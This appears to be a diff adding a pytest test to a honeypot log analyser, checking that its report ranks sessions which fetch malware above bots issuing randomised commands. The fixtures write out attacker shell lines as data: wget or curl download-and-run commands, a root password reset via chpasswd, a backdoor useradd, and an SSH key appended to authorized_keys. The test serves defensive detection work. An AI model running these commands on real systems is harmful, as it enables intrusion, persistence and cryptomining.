@@ -1,8 +1,10 @@
 """Reports of the cases that users sent in: what their notes say a report must, and must not, tell; on both engines."""
 
+import random
 from collections.abc import Callable
 from datetime import timedelta
 from pathlib import Path
+from string import ascii_lowercase
 from typing import Any
 
 import pytest
@@ -54,6 +56,63 @@ def test_one_bot_takes_one_place_and_new_malware_the_first(report_of: Report) ->
     assert all("brought 1 file never seen before" in each["reasons"] for each in found[:3])
     assert len({each["shasums"][0] for each in found[:3]}) == 3
     assert "no other session did the same" not in found[3]["reasons"]
+
+
+# ---------------------------------------------------------------------------------------- bots that make up their words
+
+USUAL = ("uname -a", "nproc", "free -m", "whoami", "w", "lscpu", "crontab -l")
+
+
+def made_up(make: random.Random, letters: int = 7) -> str:
+    return "".join(make.choices(ascii_lowercase, k=letters))
+
+
+def in_any_order(make: random.Random) -> str:
+    return "; ".join(make.sample(USUAL, k=len(USUAL)))
+
+
+BOTS: dict[str, tuple[Callable[[str, random.Random], str], bool]] = {
+    "polymorphic": (lambda word, _: f"cd /tmp; wget http://192.0.2.7/{word}; chmod 777 {word}; ./{word}", True),
+    "saved": (lambda word, make: f"wget http://192.0.2.7/ -O {word}; sh {made_up(make)}", True),
+    "printf": (lambda word, _: f"printf 'root:%s\\n' {word} | chpasswd", False),
+    "crypt": (lambda word, _: f'perl -e \'print crypt("{word}","aa")\'', False),
+    "account": (lambda word, make: f"useradd -m -p {word} {made_up(make)}", False),
+    "key": (lambda word, _: f'echo "ssh-rsa {"AAAAB3NzaC1yc2E" * 4} {word}">>.ssh/authorized_keys', False),
+    "folders": (lambda word, make: f"mkdir /tmp/{word} && cd /tmp/{made_up(make)}", False),
+    "no download": (lambda word, _: f"wget http://192.0.2.7/{word}; chmod 777 {word}; ./{word}", False),
+    "other name": (lambda word, make: f"wget http://192.0.2.7/{made_up(make)}; chmod 777 {word}; ./{word}", False),
+    "echo": (lambda word, _: f"echo {word}", False),
+    "echo and download": (lambda word, _: f"echo {word}", True),
+    "word": (lambda word, _: word, True),
+    "order": (lambda _, make: in_any_order(make), False),
+}
+
+
+@pytest.mark.parametrize("bot", BOTS)
+@pytest.mark.sqlite_first
+def test_a_bot_that_makes_up_its_words_hides_no_malware(report_of: Report, tmp_path: Path, bot: str) -> None:
+    types, downloads = BOTS[bot]
+    make = random.Random(bot)
+    sessions = []
+    for number in range(103):
+        malware = number >= 100
+        at = f"http://192.0.2.9/m{number}"
+        command = (
+            f"curl {at} -o /tmp/k{number}; nohup /tmp/k{number} --pool x" if malware else types(made_up(make), make)
+        )
+        kinds = [
+            {"eventid": "cowrie.login.success", "username": "root", "password": "x"},
+            {"eventid": "cowrie.command.input", "input": command},
+        ]
+        if malware or downloads:
+            kinds.append({"eventid": "cowrie.session.file_download", "shasum": f"{number + 9:064x}", "url": at})
+        sessions.append(list(session_of(DAY, number + 1, kinds)))
+    write_logs(tmp_path, [line for session in sessions for line in session])
+    found = report_of(tmp_path)["interesting"]
+    brought = [number for number, each in enumerate(found) if each["sample_commands"][0].startswith("curl")]
+    assert len(brought) == 3
+    assert brought[-1] < 5
+    assert len(found) - 3 <= 3
 
 
 # -------------------------------------------------------------------------------------------------------- own passwords
